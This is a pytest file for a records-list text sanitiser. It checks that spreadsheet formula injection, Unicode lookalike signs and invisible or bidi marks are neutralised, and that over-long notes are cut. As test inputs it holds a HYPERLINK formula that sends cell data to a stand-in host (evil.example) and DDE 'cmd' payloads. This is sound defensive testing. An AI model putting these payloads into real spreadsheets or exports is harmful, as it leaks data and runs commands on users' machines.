"""Text on its way into the records list: nothing invisible, nothing alive, never more than it takes."""

import pytest

from graph.list_text import SEVERAL_LINES, line_for_list, line_from_list, note_for_list, note_from_list
from graph.records import GraphRecords
from infra.local.graph import LocalGraph
from tasking.plain_text import counted
from tests.graph.conftest import row

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Athena")'


@pytest.mark.parametrize(
    ("typed", "goes_out"),
    [
        (LINK, f"'{LINK}"),
        (f"Seen at the door\n{LINK}", f"Seen at the door\n'{LINK}"),
        (f" \t{LINK}", f"'{LINK}"),
        (f"\u202e{LINK}", f"'{LINK}"),
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),
        ("\ufe66SUM(A1:A9)", "'\ufe66SUM(A1:A9)"),
        ("door\n\u22121+2", "door\n'\u22121+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+44 7700 900000", "'+44 7700 900000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("- one\n- two", "'- one\n- two"),
        ("door\n-1+2", "door\n'-1+2"),
        ("no answer = nobody in, 3-5 pm", "no answer = nobody in, 3-5 pm"),
        ("two  spaces\r\nand a line", "two spaces\nand a line"),
    ],
)
def test_what_a_spreadsheet_would_read_as_a_formula_is_text(typed: str, goes_out: str) -> None:
    assert note_for_list(typed) == goes_out


@pytest.mark.parametrize(
    "mark", ["\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\ufeff", "\x07", "\U000e0041"]
)
def test_marks_that_turn_or_hide_text_do_not_go_out(mark: str) -> None:
    assert note_for_list(f"left{mark} alone") == "left alone"
    assert line_for_list(f"91{mark}87") == "9187"


@pytest.mark.parametrize("typed", ["x" * 70_000, "\U0001f600" * 40_000, "x\n" * 40_000, "=\n" * 30_000])
def test_more_than_the_list_takes_is_cut_and_says_so(typed: str) -> None:
    out = note_for_list(typed)
    assert SEVERAL_LINES - 3 <= counted(out) <= SEVERAL_LINES
    assert out.endswith("(shortened: the rest is in RedLine)")


def test_exactly_what_the_list_takes_is_not_cut() -> None:
    assert note_for_list("x" * SEVERAL_LINES) == "x" * SEVERAL_LINES
    assert len(line_for_list("x" * 300)) == 255


_BEFORE = [
    "\u200b",
    "\ufeff",
    "\xa0",
    "\t",
    "\n",
    " ",
    "\u200b ",
    "\ufeff\xa0",
    "\u202e \u2066 ",
    "\ufe0f",
    "\u034f ",
]
_SIGNS = ["=", "@", "+", "-", "\uff1d", "\ufe66", "\u207c", "\u208c", "\uff20", "\ufb29", "\u207b", "\u2a75"]


@pytest.mark.parametrize("before", [*_BEFORE, "\u3164", "\u2800 ", "\r\n", "\x00 ", "\u2028"])
@pytest.mark.parametrize("sign", _SIGNS)
def test_nothing_invisible_before_a_sign_keeps_a_formula_alive(before: str, sign: str) -> None:
    for typed in (f"{before}{sign}cmd", f"{before}{before}{sign}cmd"):
        assert line_for_list(typed).startswith("'")
        assert note_for_list(typed).startswith("'")
        assert note_for_list(f"door\n{typed}").splitlines()[-1].startswith("'")


async def test_what_the_desk_writes_is_plain_text_or_nothing(
    records: GraphRecords, local_graph: LocalGraph
) -> None:
    await records.hand_over(row(subject_ref="=S-1", order_ref="\u200b =O"))
    fields = local_graph.store.all()[0].fields
    assert (fields["SubjectRef"], fields["OrderRef"]) == ("'=S-1", "'=O")
    for written, read in (
        ("\u202e A\u200b1 ", "A1"),
        ("\u200b", ""),
        ("\u3164", ""),
        (17, "17"),
        ({"a": 1}, ""),
    ):
        assert line_from_list(written) == read
        assert note_from_list(written) == read
    assert note_from_list(" one\u202e\r\n two ") == "one\ntwo"


async def test_the_longest_note_arrives_and_nothing_in_a_row_is_alive(
    records: GraphRecords, local_graph: LocalGraph
) -> None:
    await records.hand_over(row(note=LINK + "\U0001f600" * 40_000, officer_id="=1+1"))
    fields = local_graph.store.all()[0].fields
    assert not [value for value in fields.values() if value and value[0] in "=+-@"]
    assert counted(fields["Note"] or "") <= SEVERAL_LINES
